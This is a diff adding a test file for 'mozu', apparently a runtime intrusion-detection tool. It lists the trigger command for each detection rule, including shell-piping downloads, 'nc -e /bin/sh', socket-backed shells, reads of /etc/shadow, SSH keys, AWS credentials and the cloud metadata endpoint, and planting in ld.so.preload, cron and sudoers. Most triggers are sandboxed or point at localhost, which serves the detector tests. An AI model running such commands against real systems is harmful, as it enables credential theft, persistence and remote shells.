@@ -1,0 +1,264 @@
+"""What raises each of mozu's own rules: on the host, and in a container."""
+
+import re
+from typing import Final
+
+from tests.support.triggers import Contained, Expected, Trigger
+
+
+def _elsewhere(act: str) -> tuple[str, ...]:
+    """A script to which /etc, /var/log and /boot are empty folders of the test."""
+    script = (
+        "mkdir -p $TMP/etc $TMP/log $TMP/boot; mount --bind $TMP/etc /etc; mount --bind $TMP/log /var/log; "
+        f"mount --bind $TMP/boot /boot; {act}"
+    )
+    return ("unshare", "--mount", "sh", "-c", script)
+
+
+def _written(rule: str, path: str, by: str = "sh") -> Trigger:
+    folder = path.rpartition("/")[0]
+    return Trigger(rule, by, _elsewhere(f"mkdir -p {folder}; echo x > {path}"), {"fd.name": path})
+
+
+def _moved(rule: str, path: str) -> Trigger:
+    folder = path.rpartition("/")[0]
+    act = _elsewhere(f"mkdir -p {folder}; echo x > {folder}/.made; mv {folder}/.made {path}; true")
+    return Trigger(rule, "mv", act, {"fs.path.target": path})
+
+
+def _linked(rule: str, path: str) -> Trigger:
+    folder = path.rpartition("/")[0]
+    act = _elsewhere(f"mkdir -p {folder}; rm -f {path}; ln -s $TMP/none {path}; true")
+    return Trigger(rule, "ln", act, {"evt.type": re.compile("symlink")})
+
+
+def _named(rule: str, command: str, fields: Expected | None = None) -> Trigger:
+    """A command whose name and arguments are enough: a program that does nothing runs in its place."""
+    name = command.split()[0]
+    act = f"cp /bin/true $TMP/{name}; $TMP/{command}"
+    return Trigger(rule, name, act, {"proc.cmdline": command, **(fields or {})})
+
+
+def _python(code: str) -> tuple[str, ...]:
+    return ("$PYTHON", "-c", code)
+
+
+_CONNECTED: Final = (
+    "import os, socket, threading\n"
+    "server = socket.create_server(('127.0.0.1', 0))\n"
+    "end = socket.create_connection(server.getsockname())\n"
+    "other, _ = server.accept(); other.sendall(b'exit\\n')\n"
+)
+_CHILD: Final = (
+    "import ctypes, os, signal, time\nlibc, pid = ctypes.CDLL(None), os.fork()\nif not pid: time.sleep(60)\n"
+)
+
+HOST: Final = (
+    Trigger(
+        "Shell with a connection as its terminal",
+        re.compile("^(da)?sh$"),
+        _python(_CONNECTED + "for n in 0, 1, 2: os.dup2(end.fileno(), n)\nos.execv('/bin/sh', ['sh'])"),
+        {"proc.stdin.name": re.compile("127.0.0.1")},
+    ),
+    Trigger(
+        "Connection made the standard input or output of a program",
+        "python3",
+        _python(_CONNECTED + "os.dup2(end.fileno(), 0)"),
+        {"evt.type": re.compile("dup"), "fd.num": 0},
+    ),
+    Trigger(
+        "Process traced by an unexpected program",
+        "python3",
+        _python(_CHILD + "libc.ptrace(16, pid, 0, 0); os.waitpid(pid, 0); os.kill(pid, signal.SIGKILL)"),
+        {"evt.type": "ptrace"},
+    ),
+    Trigger(
+        "Memory of another process written",
+        "python3",
+        _python(
+            "import ctypes\n" + _CHILD + "text = ctypes.create_string_buffer(8)\n"
+            "class Vector(ctypes.Structure): _fields_ = [('at', ctypes.c_void_p), ('length', ctypes.c_size_t)]\n"
+            "one = Vector(ctypes.addressof(text), 8)\n"
+            "libc.process_vm_writev(pid, ctypes.byref(one), 1, ctypes.byref(one), 1, 0); os.kill(pid, signal.SIGKILL)"
+        ),
+    ),
+    Trigger(
+        "Memory of a process opened as a file",
+        "dd",
+        "dd if=/proc/$$$$/mem of=/dev/null count=0",
+        {"fd.name": re.compile("^/proc/[0-9]+/mem$")},
+    ),
+    _written("Library put in front of all programs", "/etc/ld.so.preload"),
+    _linked("Library put in front of all programs", "/etc/ld.so.preload"),
+    Trigger("Library preloaded from a public place", "true", "LD_PRELOAD=/tmp/none.so /bin/true"),
+    Trigger(
+        "Download piped into a shell",
+        re.compile("^(da)?sh$"),
+        ("sh", "-c", "curl -s http://127.0.0.1:9/x | sh"),
+    ),
+    Trigger("Decoded text piped into a shell", re.compile("^(da)?sh$"), ("sh", "-c", "echo Og== | base64 -d | sh")),
+    _named("Set-user-id program started as an exploit starts it", "pkexec"),
+    Trigger(
+        "Faults of memory handled by an ordinary user",
+        "python3",
+        _python("import ctypes, os\nos.setuid(65534)\nctypes.CDLL(None).syscall(323, 1)"),
+        {"user.uid": 65534},
+    ),
+    _written("Timed job planted", "/etc/cron.d/x"),
+    _moved("Service or timer of systemd planted", "/etc/systemd/system/x.service"),
+    _written("Start file of a shell changed", "/etc/profile.d/x.sh"),
+    _moved("Program started with the desktop planted", "/etc/xdg/autostart/x.desktop"),
+    _written("Start of the machine changed", "/etc/udev/rules.d/x.rules"),
+    _moved("Rules of sudo changed", "/etc/sudoers.d/x"),
+    _linked("Login modules changed", "/etc/pam.d/x"),
+    _written("Settings of the SSH server changed", "/etc/ssh/sshd_config"),
+    _written("Database of users written by an unexpected program", "/etc/passwd"),
+    _written("Program of the system written", "/boot/x"),
+    _written("Hook of a repository planted", "/boot/r/.git/hooks/post-commit"),
+    _moved("Start hook of Python planted", "/boot/site-packages/x.pth"),
+    _written("File below etc written by an unexpected program", "/etc/x.conf"),
+    _written("SSH login key planted", "/boot/.ssh/authorized_keys"),
+    Trigger(
+        "Program loaded into the kernel by an unexpected program",
+        "python3",
+        _python(
+            "import ctypes, struct\n"
+            "code = ctypes.create_string_buffer(struct.pack('<QQ', 0xb7, 0x95), 16)\n"
+            "word = ctypes.create_string_buffer(b'GPL')\n"
+            "at = ctypes.addressof(code), ctypes.addressof(word)\n"
+            "attr = struct.pack('<IIQQIIQ', 1, 2, *at, 0, 0, 0).ljust(128, b'\\0')\n"
+            "assert ctypes.CDLL(None).syscall(321, 5, attr, 128) > 0"
+        ),
+    ),
+    _written("Log removed or emptied", "/var/log/x.log"),
+    _linked("Log removed or emptied", "/var/log/y.log"),
+    Trigger("Log removed or emptied", "rm", _elsewhere("touch /var/log/z.log; rm /var/log/z.log")),
+    Trigger("History of commands removed", "rm", "echo > $TMP/.bash_history; rm $TMP/.bash_history"),
+    _named("Guard of the machine stopped", "setenforce 0"),
+    _written("Configuration of a guard changed", "/etc/audit/rules.d/x.rules"),
+    Trigger("Set-user-id bit set", "chmod", "cp /bin/true $TMP/s; chmod u+s $TMP/s"),
+    _named("Capability given to a file", "setcap cap_net_raw+ep x"),
+    _named("File made immutable or freed", "chattr +i x"),
+    _named("Kernel module loaded by hand", "insmod x.ko"),
+    Trigger("Time of a file forged", "touch", "touch -r /bin/true $TMP/x"),
+    Trigger(
+        "Process hidden behind a mount",
+        "mount",
+        ("unshare", "--mount", "sh", "-c", "mkdir -p $TMP/empty; mount --bind $TMP/empty /proc/1"),
+    ),
+    _named("Tool of connections told to run a program", "nc -e /bin/sh 127.0.0.1 9"),
+    _named("Tunnel through SSH", "ssh -R 1:127.0.0.1:1 x.example"),
+    _named("Tunnel in names or pings", "iodine x.example"),
+    _named("Network scanned", "nmap 127.0.0.1"),
+    _named("File sent out by a transfer tool", "curl -T x http://127.0.0.1:9/"),
+    _named("Files copied to a storage service", "rclone copy x remote:x"),
+    _named("Miner of coins run", "xmrig"),
+    Trigger("Files renamed as by ransomware", "mv", "echo > $TMP/a; mv $TMP/a $TMP/a.locked"),
+    _named("Disk overwritten or file system removed", "shred /dev/none"),
+    Trigger(
+        "Packets of the network read raw",
+        "python3",
+        _python("import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
+    ),
+    Trigger(
+        "Shell or netcat waits for connections",
+        "nc",
+        "ln -sf $PYTHON $TMP/nc; $TMP/nc -c \"import socket; socket.create_server(('127.0.0.1', 0))\"",
+    ),
+    Trigger("Password database read by an unexpected program", "head", "head -c1 /etc/shadow"),
+    Trigger(
+        "Secret of a user or service read by an unexpected program",
+        "cat",
+        "mkdir -p $TMP/.aws; echo > $TMP/.aws/credentials; cat $TMP/.aws/credentials",
+    ),
+    Trigger("Secrets searched for", "find", "find $TMP -name id_rsa"),
+    Trigger(
+        "Metadata service of a cloud asked by an unexpected program",
+        "python3",
+        _python(
+            "import socket\nend = socket.socket()\nend.setblocking(False)\nend.connect_ex(('169.254.169.254', 80))"
+        ),
+    ),
+    Trigger(
+        "Credentials of a browser or key ring read",
+        "cat",
+        "d=$TMP/.gnupg/private-keys-v1.d; mkdir -p $$d; echo > $$d/k; cat $$d/k",
+    ),
+    Trigger(
+        "Private key of the machine read by an unexpected program",
+        "cat",
+        _elsewhere("mkdir -p /etc/ssl/private; echo > /etc/ssl/private/x; cat /etc/ssl/private/x"),
+    ),
+    Trigger(
+        "Private SSH key read by an unexpected program",
+        "cat",
+        "mkdir -p $TMP/.ssh; echo > $TMP/.ssh/id_rsa; cat $TMP/.ssh/id_rsa",
+    ),
+    Trigger("Environment of another process read", "cat", "cat /proc/$$$$/environ"),
+    Trigger("History of commands read by a tool", "cat", "echo > $TMP/.zsh_history; cat $TMP/.zsh_history"),
+    _named("User added", "useradd x"),
+    _named("User made an administrator", "usermod -aG sudo x"),
+    Trigger(
+        "Kernel program handler changed on the host",
+        re.compile("^(da)?sh$"),
+        'v=$$(cat /proc/sys/kernel/core_pattern); echo "$$v" > /proc/sys/kernel/core_pattern',
+    ),
+    Trigger("Shell started by a network server", "dash", ("$BIN/nginx", "spawn", "$BIN/dash", "-c", "true")),
+    Trigger(
+        "Shell without a script started by an interpreter",
+        re.compile("^(da)?sh$"),
+        _python("import subprocess\nsubprocess.run(['sh'])"),
+    ),
+    Trigger("Program run from memory", "x", "cp /bin/true /dev/shm/x; /dev/shm/x; rm /dev/shm/x"),
+    Trigger(
+        "Program run from a temporary directory",
+        "mozu-test-x",
+        "cp /bin/true /tmp/mozu-test-x; /tmp/mozu-test-x; rm /tmp/mozu-test-x",
+    ),
+    Trigger(
+        "Hidden directory in a public place entered",
+        re.compile("^(da)?sh$"),
+        "mkdir -p /tmp/.mozu-test; cd /tmp/.mozu-test; rmdir /tmp/.mozu-test",
+    ),
+    Trigger(
+        "Ring of requests made by an unexpected program",
+        "python3",
+        _python("import ctypes\nassert ctypes.CDLL(None).syscall(425, 1, bytes(120)) > 0"),
+    ),
+)
+"""The order of the rules; one that is not here stands in docs/default-rules.md."""
+
+CONTAINED: Final = (
+    Contained("Kernel told from a container to run a program", "sh", "echo x > /tmp/release_agent", box="admin"),
+    Contained(
+        "Namespace entered from a container",
+        "nsenter",
+        "/bin/ln -sf busybox /bin/nsenter; /bin/nsenter -t 1 -u true",
+        box="admin",
+    ),
+    Contained("File system mounted in a container", "mount", "/bin/mount -t tmpfs x /tmp", box="admin"),
+    Contained(
+        "Debugger of file systems run in a container",
+        "debugfs",
+        "/bin/ln -sf busybox /bin/debugfs; /bin/debugfs -V",
+    ),
+    Contained(
+        "Program executed that the image does not hold",
+        "dropped",
+        "/bin/cp /bin/busybox /bin/dropped; /bin/dropped true",
+    ),
+    Contained("Shell attached to a terminal in a container", "sh", ":", terminal=True),
+    Contained("File created at the root of a container", "sh", "echo > /made"),
+    Contained(
+        "Files of another process reached from a container", "cat", "/bin/cat /proc/1/root/etc/passwd", box="admin"
+    ),
+    Contained(
+        "Token of a service account read by an unexpected program",
+        "cat",
+        "d=/run/secrets/kubernetes.io/serviceaccount; /bin/mkdir -p $d; echo > $d/token; /bin/cat $d/token",
+    ),
+    Contained(
+        "Client of the cluster run in a container", "kubectl", "/bin/ln -sf busybox /bin/kubectl; /bin/kubectl get pods"
+    ),
+    Contained("Package manager run in a container", "apk", "/bin/ln -sf busybox /bin/apk; /bin/apk add x"),
+)
